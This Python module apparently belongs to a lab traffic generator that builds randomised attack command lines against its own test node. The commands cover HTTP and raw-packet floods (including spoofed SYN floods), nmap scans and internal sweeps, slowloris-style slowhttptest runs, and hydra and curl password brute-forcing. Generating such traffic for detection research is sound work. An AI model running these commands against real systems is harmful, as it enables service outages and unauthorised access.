"""What means harm: one function a recipe, each giving an attack with drawn settings.

Owns: the command lines of the tools and their bounds in packets and seconds.
Refuses: any target but the run's own node and pods.
"""

from __future__ import annotations

from benign import Scene
from record import Attack
from services import API, SHOP

PAGES = ("/", "/login.html", "/about.html", "/catalog/9.html", "/catalog/31.html?sort=price")
SIEGE = ("verbose = false", "connection = close", "parser = false", "logging = false", "show-logfile = false")
# No flood of bare packets sends more than this.
FLOOD_PACKETS = 15_000


def flood(scene: Scene, *programs: tuple[str, ...], forged_port: int | None = None) -> Attack:
    """A flood that starts when the day is under way, and ends before it does."""
    start_s, most_s = scene.rng.uniform(10, 22), scene.rng.uniform(18, 32)
    return Attack("dos-flood", start_s, most_s, programs, forged_port=forged_port)


def workers(scene: Scene, round_trips: float) -> str:
    """How many of them make 60 to 260 requests a second, each waiting for so many round trips."""
    away_s, jitter_s, _ = scene.plan.paths()[scene.plan.attackers[0][0]]
    return str(max(2, round(scene.rng.uniform(60, 260) * round_trips * (away_s + jitter_s))))


def url(scene: Scene) -> str:
    """What is flooded: mostly the shop's pages."""
    return f"http://{scene.plan.node}{scene.rng.choice(PAGES)}"


def wrk(scene: Scene) -> Attack:
    """wrk, a connection a request."""
    return flood(scene, ("wrk", "-t", "1", "-c", workers(scene, 2), "-d", "30s", "-H", f"Host: {SHOP}",
                         "-H", "Connection: close", url(scene)))


def wrk_keeping(scene: Scene) -> Attack:
    """wrk over connections that are kept: few flows, many requests."""
    return flood(scene, ("wrk", "-t", "1", "-c", workers(scene, 1), "-d", "30s", "-H", f"Host: {SHOP}", url(scene)))


def ab(scene: Scene) -> Attack:
    """ab, a connection a request, at the shop or at the API."""
    host, path = scene.rng.choice(((SHOP, "/login.html"), (SHOP, "/"), (API, "/api/items")))
    return flood(scene, ("ab", "-q", "-r", "-t", "30", "-n", "8000", "-c", workers(scene, 2),
                         "-H", f"Host: {host}", f"http://{scene.plan.node}{path}"))


def ab_many(scene: Scene) -> Attack:
    """The same page from several addresses at once."""
    target = url(scene)
    return flood(scene, *(("ab", "-q", "-r", "-t", "30", "-n", "4000", "-c", "4", "-B", address,
                           "-H", f"Host: {SHOP}", target) for address in scene.plan.attackers[0]))


def siege(scene: Scene) -> Attack:
    """siege, which thinks for a moment between requests and draws from several pages."""
    targets = scene.folder / "targets"
    targets.write_text("".join(f"http://{scene.plan.node}{page}\n" for page in PAGES))
    settings = scene.folder / "siege.conf"
    settings.write_text("".join(f"{name}\n" for name in SIEGE))
    return flood(scene, ("siege", "-q", "-i", "-R", str(settings), "-c", workers(scene, 4), "-t", "30S", "-d", "0.1",
                         "-f", str(targets)))


def curls(scene: Scene) -> Attack:
    """curl in parallel without end, a query of its own for each request."""
    return flood(scene, ("curl", "-s", "-Z", "--parallel-max", workers(scene, 2), "-H", "Connection: close",
                         "-H", f"Host: {SHOP}", f"http://{scene.plan.node}/login.html?q=[1-6000]"))


def packets(scene: Scene, *words: str, forged_port: int | None = None) -> Attack:
    """hping3 at a pace of 150 to 800 packets a second."""
    pace = f"u{scene.rng.randrange(1_200, 6_500)}"
    argv = ("hping3", "-q", "-n", "-i", pace, "-c", str(FLOOD_PACKETS), *words, scene.plan.node)
    return flood(scene, argv, forged_port=forged_port)


def syn(scene: Scene) -> Attack:
    """SYN after SYN from one address."""
    return packets(scene, "-S", "-p", str(scene.rng.choice((80, 443))))


def syn_forged(scene: Scene) -> Attack:
    """SYNs whose senders are forged."""
    port = scene.rng.choice((80, 443))
    return packets(scene, "-S", "-p", str(port), "--rand-source", forged_port=port)


def udp(scene: Scene) -> Attack:
    """Datagrams to one port nobody serves, a port of the sender's after the other."""
    return packets(scene, "--udp", "-p", str(scene.rng.choice((53, 123, 4500))),
                   "-d", str(scene.rng.choice((64, 512, 1200))))


def udp_one(scene: Scene) -> Attack:
    """Datagrams between the same two ports: one flow that is all flood."""
    return packets(scene, "--udp", "-k", "-s", str(scene.rng.randrange(20_000, 60_000)), "-p", "443",
                   "-d", str(scene.rng.choice((200, 900, 1400))))


def ack(scene: Scene) -> Attack:
    """Segments of connections that never were."""
    return packets(scene, "-A", "-p", "80", "-d", str(scene.rng.choice((0, 120))))


def scan(scene: Scene, *words: str, target: str | None = None, place: str = "bad0", program: str = "nmap") -> Attack:
    """A scan that may take half a minute."""
    argv = (program, *(("-n", "-Pn") if program == "nmap" else ()), *words, target or scene.plan.node)
    return Attack("scan", scene.rng.uniform(8, 20), 40.0, (argv,), place)


def nmap_syn(scene: Scene) -> Attack:
    """The commonest ports, fast."""
    return scan(scene, "-sS", scene.rng.choice(("-T3", "-T4")), "--top-ports", str(scene.rng.randrange(150, 1000)))


def nmap_syn_slow(scene: Scene) -> Attack:
    """The commonest ports, a few a second."""
    return scan(scene, "-sS", "--max-rate", str(scene.rng.randrange(3, 12)), "--top-ports", "400")


def nmap_syn_paced(scene: Scene) -> Attack:
    """A range of ports from the port of DNS, some dozens a second."""
    first = scene.rng.randrange(1, 9_000)
    rate = str(scene.rng.randrange(20, 60))
    return scan(scene, "-sS", "-g", "53", "--max-rate", rate, "-p", f"{first}-{first + 900}")


def nmap_connect(scene: Scene) -> Attack:
    """Full connections."""
    return scan(scene, "-sT", "-T4", "--top-ports", str(scene.rng.randrange(100, 400)))


def nmap_udp(scene: Scene) -> Attack:
    """The commonest UDP ports."""
    return scan(scene, "-sU", "-T4", "--max-retries", "1", "--top-ports", str(scene.rng.randrange(40, 90)))


def nmap_xmas(scene: Scene) -> Attack:
    """FIN, PSH and URG without a connection."""
    return scan(scene, "-sX", "-T4", "--top-ports", str(scene.rng.randrange(100, 300)))


def nmap_fin(scene: Scene) -> Attack:
    """FIN without a connection."""
    return scan(scene, "-sF", "-T4", "--top-ports", str(scene.rng.randrange(100, 300)))


def nmap_versions(scene: Scene) -> Attack:
    """What answers is asked for its version."""
    return scan(scene, "-sS", "-sV", "--version-light", "-T4", "--top-ports", str(scene.rng.randrange(60, 200)))


def sweep(scene: Scene) -> Attack:
    """A few ports of every address behind the node."""
    return scan(scene, "-sS", "-T4", "--max-retries", "1", "-p", scene.rng.choice(("80", "22,80", "443,8080")),
                target=f"{scene.plan.pods}.0/25")


def sweep_inside(scene: Scene) -> Attack:
    """A pod that was taken over looks for others."""
    return scan(scene, "-sT", "-T3", "--max-retries", "1", "--top-ports", str(scene.rng.randrange(20, 60)),
                target=f"{scene.plan.pods}.16-64", place="odd")


def scan_inside(scene: Scene) -> Attack:
    """A pod that was taken over looks at another one."""
    return scan(scene, "-sS", "-T4", "--top-ports", str(scene.rng.randrange(100, 600)),
                target=scene.plan.pod(scene.rng.choice(("web", "api"))), place="odd")


def hping_scan(scene: Scene) -> Attack:
    """Another tool's idea of a SYN scan."""
    return scan(scene, "-q", "-n", "-S", "--scan", f"1-{scene.rng.randrange(200, 700)}", program="hping3")


def slow(scene: Scene, *words: str, page: str = "/") -> Attack:
    """slowhttptest with some dozens of connections, for nearly the whole run."""
    many, each_second = str(scene.rng.randrange(30, 120)), str(scene.rng.randrange(4, 20))
    target = f"http://{scene.plan.node}{page}"
    argv = ("slowhttptest", "-c", many, "-r", each_second, "-l", "70", "-u", target, *words)
    return Attack("dos-slow", scene.rng.uniform(6, 12), 70.0, (argv,))


def slow_headers(scene: Scene) -> Attack:
    """Headers that never end."""
    return slow(scene, "-H", "-i", str(scene.rng.randrange(6, 15)), "-x", str(scene.rng.randrange(8, 40)), "-p", "3")


def slow_headers_eager(scene: Scene) -> Attack:
    """The same with a line every few seconds, as a POST."""
    pause_s = str(scene.rng.randrange(2, 5))
    return slow(scene, "-H", "-t", "POST", "-i", pause_s, "-x", "64", "-p", "5", page="/login.html")


def slow_body(scene: Scene) -> Attack:
    """A body that never ends."""
    pause_s, most_bytes = str(scene.rng.randrange(5, 12)), str(scene.rng.randrange(8, 60))
    return slow(scene, "-B", "-i", pause_s, "-s", "8192", "-x", most_bytes)


def slow_read(scene: Scene) -> Attack:
    """A large file, read by a few bytes."""
    return slow(scene, "-X", "-w", "256", "-y", "512", "-n", str(scene.rng.randrange(2, 6)), "-z", "32",
                page="/files/manual.pdf")


def slow_read_wide(scene: Scene) -> Attack:
    """The same with larger windows, read in larger pieces after longer pauses."""
    return slow(scene, "-X", "-w", "1024", "-y", "2048", "-n", str(scene.rng.randrange(6, 10)), "-z", "128",
                page="/assets/app.js")


def guessing(scene: Scene, *argv: str) -> Attack:
    """Guesses for most of the run."""
    return Attack("brute-force", scene.rng.uniform(8, 15), scene.rng.uniform(30, 45), (argv,))


def hydra(scene: Scene, service: str, *words: str, tasks: int) -> Attack:
    """hydra with the run's list of words."""
    target, words_file = f"{service}://{scene.plan.node}{''.join(words)}", str(scene.folder / "words")
    return guessing(scene, "hydra", "-q", "-I", "-w", "5", "-t", str(tasks), "-l", "warden", "-P", words_file, target)


def hydra_http(scene: Scene) -> Attack:
    """Passwords of the shop's back room."""
    return hydra(scene, "http-get", "/admin/", tasks=scene.rng.randrange(2, 9))


def hydra_ssh(scene: Scene) -> Attack:
    """Passwords of the node."""
    return hydra(scene, "ssh", tasks=scene.rng.randrange(5, 12))


def hydra_ftp(scene: Scene) -> Attack:
    """Passwords of the node's files."""
    return hydra(scene, "ftp", tasks=scene.rng.randrange(6, 14))


def curl_guesses(scene: Scene) -> Attack:
    """The shop's back room again, by a patient script with a connection a guess."""
    return guessing(scene, "curl", "-s", "--rate", f"{scene.rng.randrange(3, 9)}/s", "-H", "Connection: close",
                    f"http://warden:floodgate-[100-900]@{scene.plan.node}/admin/")
